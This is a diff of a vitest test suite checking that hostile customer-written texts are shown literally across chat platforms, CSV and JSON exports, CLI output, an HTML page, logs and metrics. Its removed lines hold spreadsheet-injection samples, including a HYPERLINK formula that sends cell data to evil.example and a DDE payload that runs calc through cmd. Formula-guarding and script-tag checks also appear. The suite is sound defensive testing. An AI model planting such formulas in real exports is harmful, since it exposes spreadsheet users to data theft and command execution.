@@ -1,183 +1,285 @@
 import { text as textOf } from 'node:stream/consumers';
 import { parse } from 'csv-parse/sync';
-import { beforeEach, describe, expect, it } from 'vitest';
+import { beforeAll, describe, expect, it } from 'vitest';
 import { invitePage } from '../../cli/invite-page.ts';
-import type { Outbound } from '../../core/bot.ts';
+import { peopleCommand } from '../../cli/people.ts';
+import { type Outbound, platforms } from '../../core/bot.ts';
+import { createCalls } from '../../core/delivery/measured-bot.ts';
+import { bulletinNow } from '../../core/digest/bulletin.ts';
 import { answers } from '../../core/exports/answers.ts';
+import type { Export } from '../../core/exports/export.ts';
 import { people } from '../../core/exports/people.ts';
 import { toCsv, toJsonLines } from '../../core/exports/write.ts';
+import type { MyData } from '../../core/people/my-data.ts';
 import { handleEvent } from '../../core/programmes/touchpoint.ts';
-import { openDiscord } from '../bots/discord/open.ts';
-import { openSlack } from '../bots/slack/open.ts';
-import { openTelegram } from '../bots/telegram/open.ts';
-import { hostileTexts, visible } from '../contracts/hostile.ts';
-import { standing } from '../contracts/sight.ts';
+import { createMetrics } from '../../http/metrics.ts';
+import { runCommand } from '../cli/run-command.ts';
+import { eyes } from '../contracts/eyes.ts';
+import { carried, hostileTexts, inlined, withoutBlanks } from '../contracts/hostile.ts';
 import { programmeFile, roster } from '../fixtures/company.ts';
 import { useDatabase } from '../support/database.ts';
 import { createWorld, type World } from '../support/world.ts';
 
-/** What people write, and what they are called, goes through every sink as text. */
+/** What people write, and what they are called, goes through every sink as text: one customer for each hostile text. */
 
 const database = useDatabase();
 const channel = 'C0123456789';
+const factName = '<b>*_dish_*';
+const company = "<!channel> & *Co* @everyone {name} '{0}' <b>";
 let world: World;
 
-const texts = [
-  ...hostileTexts,
-  ['a spreadsheet formula', `=HYPERLINK("http://evil.example/?"&A1,"Click")`],
-  ['another formula', "@SUM(1+9)*cmd|' /C calc'!A0"],
-] as const;
-
 const visit = `
+company: { name: ${JSON.stringify(company)}, languages: [en, ru, cs] }
 surveys:
   - id: visit
     version: 1
     audience: customer
     questions:
-      - { id: score, kind: scale, from: 1, to: 5, metric: csat, text: { en: "{name|Guest}, how was it?", ru: Как?, cs: Jak? } }
+      - { id: score, kind: scale, from: 1, to: 5, metric: csat, text: { en: "{name|Guest}, how was your {fact.${factName}|meal}?", ru: Как?, cs: Jak? } }
       - { id: why, kind: text, text: { en: Why?, ru: Почему?, cs: Proč? } }
       - { id: again, kind: yesno, text: { en: "You wrote {answer.why}. Coming again?", ru: Ещё?, cs: Ještě? } }
 programmes:
   - { id: visit, survey: visit, who: { audience: customer }, trigger: { touchpoint: store-visit, after: 0m }, expires: 3d }
 cases:
   open: [{ survey: visit, when: score <= 2 }]
+managers:
+  - { person: m-jana, digest: { on: slack, when: every week on Mon at 08:30 } }
+${hostileTexts.map((_, at) => `  - { person: m-${at}, digest: { on: slack, when: every week on Mon at 08:30 } }`).join('\n')}
 `;
 
-beforeEach(async () => {
-  await database.db.dropDatabase();
-  world = await createWorld(database.db, '2026-12-03T09:00:00Z');
-  world.slack.directory.set('jana@example.com', 'U1');
-  await world.apply(programmeFile);
-  await world.apply(visit);
-});
-
-/** What a cell of a roster may hold. */
+/** What a cell of a roster may hold: no control characters, 100 code points. */
 function asName(text: string): string {
-  const line = text.replace(/[\p{Cc}\p{Cs}\s]+/gu, ' ').trim();
-  return firstOf(line, 12).trim();
-}
-
-function firstOf(text: string, characters: number): string {
-  const segments = [...new Intl.Segmenter().segment(text)];
-  return segments
-    .slice(0, characters)
-    .map(({ segment }) => segment)
-    .join('');
-}
-
-interface Sink {
-  name: string;
-  outbound: Outbound;
-  /** What a reader must find in it. */
-  shows: string;
+  const line = text.replace(/[\p{Cc}\p{Cs}]+/gu, ' ').trim();
+  return [...line].slice(0, 100).join('').trim();
 }
 
 const quoted = (cell: string): string => `"${cell.replaceAll('"', '""')}"`;
 
-/** A customer of that name answers that text; everything that is said on the way. */
-async function sinksOf(written: string): Promise<Sink[]> {
-  const name = asName(written);
-  await world.roster(
-    roster([
-      'm-jana,Jana Nováková,employee,en,Europe/Prague,front,praha-1,,,jana@example.com,,,',
-      `c-anna,${quoted(name)},customer,en,Europe/Prague,,praha-1,,,,,,`,
-    ]),
-  );
-  const { context } = world.core;
-  const address = { platform: 'telegram', user: '501', chat: '501' } as const;
-  await context.people.join('c-anna', address, world.now());
-  await context.people.join('m-jana', { platform: 'slack', user: 'U1', chat: 'U1' }, world.now());
-  const event = { id: 'v1', person: 'c-anna', touchpoint: 'store-visit', at: world.now() };
-  await handleEvent(context, { ...event, facts: { dish: name } });
-  await world.run();
-  const { telegram, slack } = world;
-  const asked = telegram.last('501').outbound;
-  await telegram.tap('501', '1');
-  await telegram.say('501', written);
-  const recalled = telegram.last('501').outbound;
-  await world.run();
-  const card = slack.last(channel).outbound;
-  await slack.tap('U1', 'Claim', { chat: channel });
-  await slack.say('U1', written, slack.chat(channel)[0]?.outbound.form?.value);
-  await world.run();
-  const replied = telegram.last('501').outbound;
-  await telegram.command('501', 'mydata');
-  const mydata = telegram.last('501').outbound;
-  world.pass(3_600_000);
-  await slack.command('U1', 'digest');
-  const digest = slack.last('U1').outbound;
-  await slack.tap('U1', 'More');
-  const more = slack.last('U1').outbound;
-  return [
-    { name: 'the name in a question', outbound: asked, shows: name },
-    { name: 'an answer said again', outbound: recalled, shows: firstOf(written, 20) },
-    { name: 'the name on a case card', outbound: card, shows: name },
-    { name: 'the words on a case card', outbound: card, shows: firstOf(written, 20) },
-    { name: 'a reply to the customer', outbound: replied, shows: firstOf(written, 20) },
-    { name: 'a name and a fact in /mydata', outbound: mydata, shows: name },
-    { name: 'the digest', outbound: digest, shows: '' },
-    { name: 'the details of the digest', outbound: more, shows: '' },
-  ];
+interface Visitor {
+  /** Of the text. */
+  called: string;
+  id: string;
+  user: string;
+  written: string;
+  name: string;
+  fact: string;
 }
 
-const platforms = [
-  () => openTelegram('long polling'),
-  () => openSlack('socket'),
-  () => openDiscord(),
-] as const;
+/** Halves of surrogate pairs cannot be stored. */
+function stored(text: string): string {
+  return text.replace(/\p{Cs}/gu, '\uFFFD');
+}
 
-describe.each(texts)('%s', (_, text) => {
-  const written = firstOf(text, 700);
+const visitors: readonly Visitor[] = hostileTexts.map(([called, text], at) => ({
+  ...{ called, id: `c-${at}`, user: String(500 + at), written: text, name: asName(text) },
+  fact: [...text].slice(0, 50).join(''),
+}));
+const boss = visitors[0]?.name ?? '';
 
-  it('is shown literally in every message, on every platform', async () => {
-    const sinks = await sinksOf(written);
-    for (const open of platforms) {
-      const { bot, simulator, person, other, channel: group, close } = await open();
-      for (const [index, { name, outbound, shows }] of sinks.entries()) {
-        const to = [person, other, group][index % 3] ?? person;
-        const before = standing(simulator, to).length;
-        await bot.send(to, { ...outbound, picture: null, file: null, key: '' });
-        const shown = standing(simulator, to).slice(before);
-        const seen = visible(shown.map((each) => each.text).join(''));
-        expect(seen, name).toBe(visible(outbound.text));
-        expect(seen, name).toContain(visible(shows));
-      }
-      await close();
+interface Sink {
+  name: string;
+  outbound: Outbound;
+  /** What its text says, character by character. */
+  shows: readonly string[];
+}
+
+const sinks = new Map<string, Sink[]>();
+/** What `/mydata` gives to take away, by person. */
+const files = new Map<string, MyData>();
+
+function keep({ called }: Visitor, name: string, outbound: Outbound, ...shows: string[]): void {
+  sinks.set(called, [...(sinks.get(called) ?? []), { name, outbound, shows }]);
+}
+
+async function answer(visitor: Visitor): Promise<void> {
+  const { user, written, name, fact } = visitor;
+  const { telegram } = world;
+  const asked = telegram.last(user).outbound;
+  keep(visitor, 'the first words', asked, company);
+  keep(visitor, 'a name and a fact in a question', asked, inlined(name), inlined(fact));
+  await telegram.tap(user, '1');
+  await telegram.say(user, written);
+  keep(visitor, 'an answer said again', telegram.last(user).outbound, inlined(written));
+  await telegram.tap(user, 'No');
+  keep(visitor, 'the thanks', telegram.last(user).outbound, company);
+}
+
+async function handle(visitor: Visitor): Promise<void> {
+  const { id, name, written } = visitor;
+  const [found] = await world.core.context.cases.ofPerson(id);
+  const standing = world.slack
+    .chat(channel)
+    .find(({ outbound }) => outbound.form?.value.includes(found?.id ?? '?'));
+  if (!standing) throw new Error(`no card for ${visitor.called}`);
+  const { outbound } = standing;
+  keep(visitor, 'a card', outbound, name, written.trim());
+  await world.slack.say('U1', written, outbound.form?.value);
+}
+
+async function look(visitor: Visitor): Promise<void> {
+  const { id, user, written, name, fact } = visitor;
+  const { telegram } = world;
+  keep(visitor, 'a reply to the customer', telegram.last(user).outbound, boss, written.trim());
+  await telegram.command(user, 'mydata');
+  const mine = telegram.last(user).outbound;
+  keep(visitor, '/mydata', mine, name, fact);
+  files.set(id, JSON.parse(String(Buffer.from(mine.file?.bytes ?? []))));
+  const correct = mine.choices.flat().find(({ label }) => label.includes(factName));
+  await telegram.tap(user, correct?.label ?? '');
+  keep(visitor, 'what is true instead', telegram.last(user).outbound, factName);
+  await telegram.say(user, written);
+  const corrected = telegram.last(user).outbound;
+  keep(visitor, 'a correction', corrected, [...written.trim()].slice(0, 15).join(''));
+}
+
+beforeAll(async () => {
+  await database.db.dropDatabase();
+  world = await createWorld(database.db, '2026-12-03T09:00:00Z');
+  world.slack.directory.set('jana@example.com', 'U1');
+  await world.roster(
+    roster([
+      `m-jana,${quoted(boss)},employee,en,Europe/Prague,front,praha-1,,,jana@example.com,,,`,
+      ...visitors.map(
+        ({ name }, at) =>
+          `m-${at},${quoted(name)},employee,en,Europe/Prague,front,${quoted(name)},,,,,,`,
+      ),
+      ...visitors.map(
+        ({ id, name }) =>
+          `${id},${quoted(name)},customer,en,Europe/Prague,,${quoted(name)},,${quoted(name)},,,,`,
+      ),
+    ]),
+  );
+  await world.apply(programmeFile);
+  await world.apply(visit);
+  const { context } = world.core;
+  await context.people.join('m-jana', { platform: 'slack', user: 'U1', chat: 'U1' }, world.now());
+  for (const { id, user, fact } of visitors) {
+    await context.people.join(id, { platform: 'telegram', user, chat: user }, world.now());
+    const event = { id: `v-${id}`, person: id, touchpoint: 'store-visit', at: world.now() };
+    await handleEvent(context, { ...event, facts: { [factName]: fact } });
+  }
+  await world.run();
+  for (const visitor of visitors) await answer(visitor);
+  await world.run();
+  for (const visitor of visitors) await handle(visitor);
+  await world.run();
+  for (const visitor of visitors) await look(visitor);
+}, 120_000);
+
+async function csvOf(from: Export): Promise<Record<string, string>[]> {
+  const csv = await textOf(toCsv(from, from.rows(world.core.context)));
+  return parse(csv, { bom: true, columns: true }) as Record<string, string>[];
+}
+
+/** Behind a quote where a spreadsheet would take it for a formula. */
+function guarded(text: string): string {
+  return /^[=+\-@\t\r\uFF0B\uFF0D\uFF1D\uFF20]/.test(text) ? `'${text}` : text;
+}
+
+/** What each platform shows of it is all of it, character by character. */
+function expectLiteral(outbound: Outbound): void {
+  for (const platform of platforms) {
+    const { texts } = eyes[platform](outbound);
+    const meant = carried(platform, outbound.text);
+    if (texts.length === 1) expect(texts[0]?.trim(), platform).toBe(meant);
+    else expect(withoutBlanks(texts.join('')), platform).toBe(withoutBlanks(meant));
+  }
+}
+
+describe.each(hostileTexts)('%s', (called) => {
+  it('is shown literally in every message, on every platform', () => {
+    const found = sinks.get(called) ?? [];
+    expect(found).toHaveLength(9);
+    for (const { name, outbound, shows } of found) {
+      for (const shown of shows) expect(stored(outbound.text), name).toContain(stored(shown));
+      expectLiteral(outbound);
+    }
+  });
+});
+
+describe('of all of them', () => {
+  it('what they take away holds their words as they were', () => {
+    for (const { id, name, written, fact } of visitors) {
+      const { person, answers: given, facts } = files.get(id) ?? {};
+      expect(person?.name).toBe(name);
+      expect(given?.map(({ answer: said }) => said)).toContain(stored(written.trim()));
+      expect(facts?.map(({ value }) => value)).toContain(stored(fact));
     }
   });
 
-  it('is text in every export, on the printed page, and not in the log', async () => {
-    await sinksOf(written);
-    const { context } = world.core;
-    const csv = await textOf(toCsv(answers, answers.rows(context)));
-    const cells = (parse(csv, { bom: true }) as string[][]).flat();
-    const formulas = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
-    expect(formulas.filter((cell) => Number.isNaN(Number(cell)))).toEqual([]);
-    expect(cells.map((cell) => cell.replace(/^'/, ''))).toContain(
-      written.replace(/\p{Cs}/gu, '\uFFFD'),
+  it('a table holds no formula, and gives back what was written', async () => {
+    const said = await csvOf(answers);
+    const roster = await csvOf(people);
+    for (const { id, name, written } of visitors) {
+      const why = said.find((row) => row['person'] === id && row['question'] === 'why');
+      expect(why?.['value']).toBe(guarded(stored(written.trim())));
+      expect(roster.find((row) => row['id'] === id)?.['name']).toBe(guarded(name));
+    }
+    const lines = (await textOf(toJsonLines(people.rows(world.core.context)))).trim().split('\n');
+    const named = new Map(lines.map((line) => JSON.parse(line)).map((row) => [row.id, row.name]));
+    for (const { id, name } of visitors) expect(named.get(id)).toBe(name);
+  });
+
+  it('the terminal lists each on a line of their own', async () => {
+    const { out } = await runCommand(world, peopleCommand, ['people', 'list']);
+    const lines = out.trim().split('\n');
+    expect(lines).toHaveLength(1 + 1 + 2 * visitors.length);
+    const { out: json } = await runCommand(world, peopleCommand, ['people', 'list', '--json']);
+    const named = new Map(
+      (JSON.parse(json) as { person: string; name: string }[]).map((row) => [row.person, row.name]),
     );
-    const lines = (await textOf(toJsonLines(people.rows(context)))).trim().split('\n');
-    expect(lines.map((line) => JSON.parse(line).name)).toContain(asName(written));
-    const card = { name: asName(written), audience: 'customer', language: 'en' } as const;
-    const page = await invitePage(
-      asName(written),
-      [{ ...card, telegram: null, discord: 'x' }],
-      context.say,
-    );
-    expect(visible(readable(page))).toContain(visible(asName(written)));
-    expect(page).not.toMatch(/<(?:b|script)>/);
-    expect(world.lines.join('\n')).not.toContain(firstOf(written, 12));
+    for (const { id, name } of visitors) expect(named.get(id)).toBe(name);
+  });
+
+  it('the printed page shows names and nothing else', async () => {
+    const { say } = world.core.context;
+    const card = { audience: 'customer', language: 'en', telegram: null, discord: 'x' } as const;
+    const cards = visitors.map(({ name }) => ({ ...card, name }));
+    const page = await invitePage(company, cards, say);
+    expect(page).not.toMatch(/<(?:b|script|img)\b/);
+    const shown = readable(page);
+    for (const { name } of visitors) expect(shown).toContain(name);
+  });
+
+  it('neither log nor metrics say a word of it', async () => {
+    const metrics = createMetrics(world.core.context, createCalls());
+    const told = `${world.lines.join('\n')}\n${await metrics.read()}`;
+    expect(world.lines.every((line) => !line.includes('\n'))).toBe(true);
+    const telling = visitors.filter(({ written }) => written.trim().length > 6);
+    for (const { name, written } of telling) {
+      expect(told).not.toContain(name.slice(0, 12));
+      expect(told).not.toContain(written.trim().slice(0, 12));
+    }
+  });
+
+  it('managers read and take on their digest, and choose who stands in', async () => {
+    const { slack, core } = world;
+    world.pass(3_600_000);
+    const read = async (act: Promise<void>): Promise<Outbound> => {
+      await act;
+      return slack.last('U1').outbound;
+    };
+    const digest = await read(slack.command('U1', 'digest'));
+    const more = await read(slack.tap('U1', 'More'));
+    const settings = await read(slack.tap('U1', 'Settings'));
+    const away = await read(slack.tap('U1', 'I will be away'));
+    const house = await core.context.programmes.house();
+    if (!house) throw new Error('no house');
+    const bulletin = await bulletinNow(core.context, house.house);
+    for (const each of [digest, more, settings, away, bulletin]) expectLiteral(each);
+    expect(digest.text).toContain(company);
+    expect(bulletin.text).toContain(company);
+    const names = new Set(visitors.map(({ name }) => name));
+    const offered = away.choices.flat().map(({ label }) => label);
+    expect(offered).toHaveLength(10);
+    for (const label of offered) expect(names).toContain(label);
   });
 });
 
 /** What a browser shows of a page without scripts. */
 function readable(page: string): string {
   const entities: Readonly<Record<string, string>> = {
-    amp: '&',
-    lt: '<',
-    gt: '>',
-    quot: '"',
-    '#39': "'",
+    ...{ amp: '&', lt: '<', gt: '>', quot: '"', '#39': "'" },
   };
   return page
     .replace(/<[^>]*>/g, '')
